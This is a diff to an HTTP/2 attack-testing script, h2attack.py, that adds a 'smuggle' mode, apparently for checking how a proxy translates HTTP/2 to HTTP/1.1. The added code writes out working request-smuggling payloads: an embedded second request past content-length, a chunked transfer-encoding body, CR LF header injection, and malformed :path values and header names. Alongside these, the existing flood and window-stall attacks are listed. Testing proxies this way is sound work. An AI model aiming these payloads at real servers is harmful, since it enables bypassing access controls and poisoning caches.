@@ -11,6 +11,10 @@ Usage: h2attack.py PROXY_PORT CAFILE HOST PORT ATTACK [ARGS...]
   stream-ids PATH          GET PATH on the largest stream id (2^31-1), then HEADERS on stream 1 (going back)
   settings-flood N         N SETTINGS frames in one write, none of the ACKs read until all are sent
   ping-flood N             the same with PING frames
+  smuggle                  against an HTTP/1.1-only origin: requests that would smuggle a second request past
+                           a careless h2 -> HTTP/1.1 translation, each on its own stream (a
+                           body longer than its content-length, a transfer-encoding field, CR LF in a field value,
+                           a space in :path, a name with a colon), then GET /cl?n=2; statuses and resets by stream
   stall N BIG SMALL HOLD [WINDOW]
                            SETTINGS_INITIAL_WINDOW_SIZE WINDOW (default 0) and a 1 GiB connection window; N
                            GETs of BIG whose window is never raised past that; after HOLD seconds a GET of SMALL
@@ -152,6 +156,31 @@ def main():
         except OSError:
             peer.result["closed"] = True
         peer.read(10)
+    elif attack == "smuggle":
+        smuggled = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"
+        def request(stream, fields, body=None):
+            base = [(":method", "POST" if body is not None else "GET"), (":scheme", "https"),
+                    (":authority", peer.authority), (":path", "/s%d" % stream)]
+            # Each pseudo-header given in `fields` replaces the base one.
+            names = {name for name, _ in fields}
+            block = peer.encoder.encode([f for f in base if f[0] not in names] + fields)
+            headers = HeadersFrame(stream, block)
+            headers.flags.add("END_HEADERS")
+            if body is None:
+                headers.flags.add("END_STREAM")
+                return [headers]
+            data = DataFrame(stream, body)
+            data.flags.add("END_STREAM")
+            return [headers, data]
+        frames = (request(1, [("content-length", "0")], smuggled)
+                  + request(3, [("transfer-encoding", "chunked")], b"0\r\n\r\n" + smuggled)
+                  + request(5, [("x-a", "b\r\nX-Injected: 1")])
+                  + request(7, [(":path", "/s7 HTTP/1.1\r\nX: /smuggled")])
+                  + request(9, [(":path", "/s9 /smuggled")])
+                  + request(11, [("x-a:b", "c")])
+                  + request(13, [(":path", "/cl?n=2")]))
+        peer.send(*frames)
+        peer.read(10, until=lambda: all(peer.ended(sid) for sid in (1, 3, 5, 7, 9, 11, 13)))
     elif attack == "stall":
         count, big, small, hold = int(args[0]), args[1], args[2], float(args[3])
         window = int(args[4]) if len(args) > 4 else 0
